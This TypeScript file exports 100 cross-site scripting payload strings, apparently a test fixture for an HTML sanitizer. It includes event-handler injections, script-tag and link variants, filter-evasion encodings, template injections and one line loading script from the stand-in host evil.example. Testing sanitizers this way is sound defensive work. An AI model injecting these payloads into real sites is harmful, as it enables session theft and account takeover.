// Words that a page would run if it took them for markup: 100 of them, of every way that is known here.

const RUNS = [
  'onload=alert(1)',
  'onerror=alert(1)',
  'onfocus=alert(1) autofocus tabindex=1',
  'onmouseover="alert(1)"',
  "ontoggle='alert(1)' open",
];
const TAGS = ['img src=x', 'svg', 'body', 'details', 'video src=x', 'iframe src=x', 'input', 'marquee'];

const EVENTS = TAGS.flatMap((tag) => RUNS.map((run) => `<${tag} ${run}>`));

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src=data:,alert(1)></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)//',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<script type=module>import("data:text/javascript,alert(1)")</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><script href=data:,alert(1) />',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

const LINKS = [
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java&#10;script:alert(1)">click</a>',
  '<a href=" &#1; javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '[click](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction=javascript:alert(1)>go</button>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:,*{x:expression(alert(1))}">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
];

const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<img\tsrc=x\nonerror\r=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: such words are what is tried here.
  '${alert(1)}',
  '<%= alert(1) %>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  'javascript:alert(1)',
  "';alert(1);//",
  '"onfocus="alert(1)" autofocus="',
  '<x onclick=alert(1)>click me</x>',
  '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p>fine <img src=x onerror=alert(1)> words</p>',
  '<xml><?xml-stylesheet href="javascript:alert(1)"?></xml>',
];

export const MARKUP: readonly string[] = [...EVENTS, ...SCRIPTS, ...LINKS, ...ENCODED];
